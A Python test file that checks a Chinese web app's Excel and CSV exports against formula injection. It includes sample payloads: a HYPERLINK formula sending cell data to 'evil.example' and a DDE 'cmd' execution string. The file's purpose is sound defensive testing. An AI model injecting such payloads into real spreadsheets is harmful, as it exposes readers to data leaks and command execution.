"""Text that starts like a formula stays text in every Excel export (session 11's attacker review).

Names in the exports come from people: a unit registers its own name, staff name indicators and regions, an
import brings names from a file. A cell that starts with "=", "+", "-" or "@" runs as a formula in a
spreadsheet (=HYPERLINK to a hostile site, =WEBSERVICE sending the sheet out) either when the file is opened
(openpyxl writes a str starting with "=" as a formula) or when the reader edits the cell and presses Enter.
The indicators' multi-sheet exports wrote "=…" as formulas; the others kept "=" as text but left "+", "-"
and "@" without Excel's quote prefix. Every writer now goes through core.excel.guard_text."""

import io

import pytest
from openpyxl import load_workbook

from kechuang.core.excel import xlsx_bytes
from kechuang.core.exports import col, write_workbook
from kechuang.indicators import exports as indicator_exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
]


def _sheets(data: bytes):
    return load_workbook(io.BytesIO(data)).worksheets


def _check(ws, values):
    found = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for value in values:
        cell = found[value]  # read back as written
        assert cell.data_type == "s", (value, cell.data_type)
        assert cell.quotePrefix, value


def test_the_simple_writer_keeps_formula_like_text_as_quoted_text():
    data = xlsx_bytes(["名称", *HOSTILE[:1]], [[v, 1] for v in HOSTILE])
    _check(_sheets(data)[0], HOSTILE)


def test_the_list_export_keeps_formula_like_text_as_quoted_text():
    out = io.BytesIO()
    write_workbook(out, [col("名称", lambda v: v), col("数", lambda v: 1)], HOSTILE, sheet_title="测试")
    _check(_sheets(out.getvalue())[0], HOSTILE)


def test_the_indicators_workbooks_keep_formula_like_text_as_quoted_text():
    response = indicator_exports._workbook_response(
        "x.xlsx", [("排名", ["地区", HOSTILE[3]], [[v, 1.5] for v in HOSTILE])]
    )
    ws = _sheets(response.content)[0]
    _check(ws, HOSTILE)
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


@pytest.mark.parametrize("text", ["山西大学", "-", "1-2", "a=b", "2026-01-01"])
def test_ordinary_text_is_left_alone(text):
    ws = _sheets(xlsx_bytes(["名称"], [[text]]))[0]
    assert ws["A2"].value == text and ws["A2"].data_type == "s"
    assert ws["A2"].quotePrefix == text.startswith("-")


# Writers that need no guard, and why.
UNGUARDED_WRITERS: set[tuple[str, str]] = set()  # none since §45 (the matcher's file: csv_id_cell)
_WRITERS = {"Workbook", "writer", "DictWriter"}  # openpyxl.Workbook, csv.writer, csv.DictWriter
_GUARDS = {"guard_text", "cell_format", "csv_row", "csv_cell", "csv_id_cell"}


def _writing_functions():
    """(module, function, names it calls) of every product function that makes a workbook or a CSV writer."""
    import ast
    import inspect

    from .product import product_modules

    for name, module in product_modules():
        try:
            source = inspect.getsource(module)
        except (OSError, TypeError):
            continue
        # A call of a writer names it in the source (a Name's id, an Attribute's attr): a module whose text holds
        # none of their names has no such function, and is not parsed and walked (most of the test's 4 s of CPU).
        if not any(writer in source for writer in _WRITERS):
            continue
        tree = ast.parse(source)
        for node in ast.walk(tree):
            if not isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
                continue
            called = {
                c.func.id if isinstance(c.func, ast.Name) else c.func.attr
                for c in ast.walk(node)
                if isinstance(c, ast.Call) and isinstance(c.func, ast.Name | ast.Attribute)
            }
            if called & _WRITERS:
                yield name, node.name, called


def test_every_workbook_or_csv_writer_guards_its_cells():
    """A walker: a function that makes a workbook or a CSV writer writes its cells through the guard (a new export
    that writes cells itself fails here), unless it is listed above with why."""
    found = list(_writing_functions())
    assert len(found) >= 6  # the walker sees the writers (core.excel, core.exports, indicators, the commands)
    bare = sorted(
        (module, function)
        for module, function, called in found
        if not called & _GUARDS and (module, function) not in UNGUARDED_WRITERS
    )
    assert not bare, f"writes cells without core.excel.guard_text / csv_row: {bare}"
